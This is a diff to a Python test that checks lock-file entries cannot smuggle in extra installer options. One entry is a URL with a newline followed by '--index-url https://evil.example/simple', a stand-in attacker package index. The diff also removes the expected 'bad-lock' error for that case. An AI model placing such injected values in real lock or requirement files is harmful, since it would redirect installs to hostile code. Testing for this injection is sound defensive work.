@@ -220,7 +220,6 @@ def test_what_a_lock_may_not_smuggle_in(what: str, venv: Venv, private: IndexSer
     archive: dict[str, Any] = {"url": f"{public.root}/files/pubdep-1.0-py3-none-any.whl", "hashes": {"sha256": public.projects["pubdep"][0].sha256}}
     if what == "line break":
         lock["packages"] = [{"name": "pubdep", "archive": {**archive, "url": archive["url"] + "#x\n--index-url https://evil.example/simple"}}]
-        error = "bad-lock"
     elif what == "variable":
         lock["packages"] = [{"name": "pubdep", "archive": {**archive, "url": f"{public.root}/${{HOME}}/pubdep-1.0-py3-none-any.whl"}}]
         error = "bad-lock"
